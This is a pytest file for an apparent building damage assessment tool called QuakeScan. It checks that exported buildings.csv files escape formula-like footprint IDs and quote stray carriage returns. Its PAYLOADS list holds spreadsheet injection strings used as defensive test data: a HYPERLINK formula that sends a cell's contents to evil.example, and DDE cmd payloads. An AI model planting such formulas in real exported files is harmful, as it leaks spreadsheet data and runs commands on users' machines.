"""buildings.csv cannot carry formulas or split rows, whatever the footprints' IDs (issue 45).

The audit's payloads: text footprint IDs that a spreadsheet runs as formulas, and a bare CR
that Python's csv module (lineterminator "\\n") leaves unquoted, so readers saw one building
more and `quakescan evaluate` refused QuakeScan's own file.
"""
import csv
import json

import pytest

from quakescan.results.building_result import BuildingResult
from quakescan.results.csv_table import read_csv, read_footprint_ids, write_csv
from quakescan.results.evaluation import evaluate_files
from quakescan.runtime.text_safety import csv_line, spreadsheet_cell, spreadsheet_raw

PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
CLASSES = [0, 3, 4, 5]


def test_cells_that_a_spreadsheet_would_run_get_a_leading_quote_and_come_back():
    for text in PAYLOADS:
        cell = spreadsheet_cell(text)
        assert cell == "'" + text
        assert spreadsheet_raw(cell) == text
    for text in ["b3fe1a-00ba", "N12", "", "a=b", "'plain", "1e5"]:  # nothing a spreadsheet would run
        assert spreadsheet_cell(text) == text and spreadsheet_raw(text) == text
    # an ID that itself begins with the escape stays exact both ways
    assert spreadsheet_cell("'=1+1") == "''=1+1" and spreadsheet_raw("''=1+1") == "'=1+1"


def test_csv_line_is_the_csv_modules_bytes_except_that_a_bare_cr_is_quoted():
    import io

    cells = ["1", "", "a,b", 'say "x"', "c\nd", "plain", "2.5"]
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\n").writerow(cells)
    assert csv_line(cells) == buf.getvalue()
    assert csv_line(["a\rb", "c"]) == '"a\rb",c\n'
    assert list(csv.reader([csv_line(["a\rb", "c"])])) == [["a\rb", "c"]]


def _rows(n):
    out = []
    for i in range(1, n + 1):
        probs = {0: 0.1, 3: 0.2, 4: 0.3, 5: 0.4}
        out.append(BuildingResult(i, 900, 800, True, grade=5, probabilities=probs, share_changed=0.4,
                                    decided_by="model", confidence=0.4))
    out.append(BuildingResult(n + 1, 12, 300, False, "density 1.23 pts/m² < 1.9"))
    return out


def _table(path):
    with open(path, newline="", encoding="utf-8") as f:
        return list(csv.DictReader(f))


def test_buildings_csv_escapes_footprint_ids_and_keeps_its_numbers(tmp_path):
    rows = _rows(len(PAYLOADS))
    own = {i + 1: text for i, text in enumerate(PAYLOADS)}
    own[len(PAYLOADS) + 1] = -7  # a numeric footprint ID is a number, not text: never escaped
    path = tmp_path / "buildings.csv"
    write_csv(rows, path, CLASSES, own_ids=own)
    table = _table(path)
    assert len(table) == len(rows)
    for r, text in zip(table, PAYLOADS):
        assert r["footprint_id"] == "'" + text
        assert r["footprint_id"][0] not in "=+-@\t\r"
    assert table[-1]["footprint_id"] == "-7"
    assert table[-1]["reason"] == "density 1.23 pts/m² < 1.9"
    assert table[0]["p_5"] == "0.4" and table[0]["n_pre"] == "900"  # our numbers as numbers
    assert read_footprint_ids(path) == {**{i + 1: t for i, t in enumerate(PAYLOADS)}, len(PAYLOADS) + 1: "-7"}
    # machine readers may ask for the cells as they are
    raw = tmp_path / "raw.csv"
    write_csv(rows, raw, CLASSES, own_ids=own, raw_text=True)
    assert [r["footprint_id"] for r in _table(raw)][:len(PAYLOADS)] == PAYLOADS


@pytest.mark.parametrize("own_id", ["a\rb", "a\nb", "a\r\nb", "\r", "x,\"y\"\r"])
def test_cr_or_lf_in_an_id_never_splits_a_row_and_evaluate_reads_the_file(tmp_path, own_id):
    rows = _rows(3)
    path = tmp_path / "buildings.csv"
    write_csv(rows, path, CLASSES, own_ids={2: own_id, 3: "plain"})
    table = _table(path)
    assert [int(r["building_id"]) for r in table] == [1, 2, 3, 4]  # no extra "building"
    assert read_footprint_ids(path)[2] == own_id
    assert len(read_csv(path)) == 4
    truth = tmp_path / "truth.csv"
    truth.write_text("building_id,grade\n1,5\n2,5\n3,0\n4,0\n")
    ev = evaluate_files(path, truth)
    assert ev.n == 3 and ev.not_assessable == 1


@pytest.fixture(scope="module")
def text_id_run(tmp_path_factory):
    """A scanned pair, its footprints with hostile text IDs, a small model."""
    from quakescan.change.settings import PipelineSettings
    from quakescan.formats.footprints import footprints_from_scene, write_footprints
    from quakescan.formats.synthetic import box_city
    from quakescan.learning.model import save_model
    from quakescan.learning.training import TrainingPair, train
    from tests.scenes import HEIGHTS, UTM, scan_box_pair

    d = tmp_path_factory.mktemp("text_ids")
    grades = scan_box_pair(d, (9.0, 4.0, 9.0, 3.0, 9.0, 12.0))
    model, _, _ = train([TrainingPair(str(d / "pre.las"), str(d / "post.las"))], PipelineSettings(),
                        n_estimators=10, test_size=0.0)
    save_model(model, d / "model.skops")
    fp = footprints_from_scene(box_city(rows=2, cols=3, height=HEIGHTS, origin=UTM))
    write_footprints(fp, d / "fp.geojson")
    doc = json.loads((d / "fp.geojson").read_text())
    refs = PAYLOADS[:4] + ["a\rb", "Straße 7"]
    for f, ref in zip(doc["features"], refs):
        f["properties"]["ref"] = ref
    (d / "fp.geojson").write_text(json.dumps(doc))
    (d / "truth.csv").write_text("building_id,grade\n" + "".join(f"{i + 1},{g}\n" for i, g in enumerate(grades)))
    return d, refs


def test_classify_writes_escaped_ids_that_evaluate_reads_back(text_id_run, tmp_path):
    from quakescan.cli import main

    d, refs = text_id_run
    args = ["classify", "--pre", str(d / "pre.las"), "--post", str(d / "post.las"), "--footprints",
            str(d / "fp.geojson"), "--id-field", "ref", "--model", str(d / "model.skops"), "--no-las", "--no-align"]
    assert main(args + ["-o", str(tmp_path / "safe")]) == 0
    table = _table(tmp_path / "safe" / "buildings.csv")
    assert len(table) == 6
    cells = [r["footprint_id"] for r in table]
    assert cells[:4] == ["'" + t for t in refs[:4]] and cells[4:] == refs[4:]
    assert read_footprint_ids(tmp_path / "safe" / "buildings.csv") == {i + 1: t for i, t in enumerate(refs)}
    assert main(["evaluate", str(tmp_path / "safe" / "buildings.csv"), "--truth", str(d / "truth.csv"),
                 "-o", str(tmp_path / "ev")]) == 0
    # --csv-raw: the cells as the footprints hold them, and a new fingerprint (not "up to date")
    assert main(args + ["--csv-raw", "-o", str(tmp_path / "safe")]) == 0
    assert [r["footprint_id"] for r in _table(tmp_path / "safe" / "buildings.csv")] == refs
    summary = json.loads((tmp_path / "safe" / "summary.json").read_text())
    assert summary["options"]["csv_raw"] is True
